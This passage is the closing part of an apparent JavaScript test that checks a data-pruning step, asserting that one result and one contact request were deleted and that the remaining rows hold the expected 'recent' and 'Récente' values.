    assert.match(pruned.output(), /deleted 1 results and 1 contact requests/);
    const left = await rows(pruned, 'format=jsonl');
    assert.deepEqual(left.map((row) => row.version ?? row.association).sort(), ['recent', 'Récente'].sort());
  } finally {
    await pruned.stop();
  }
});
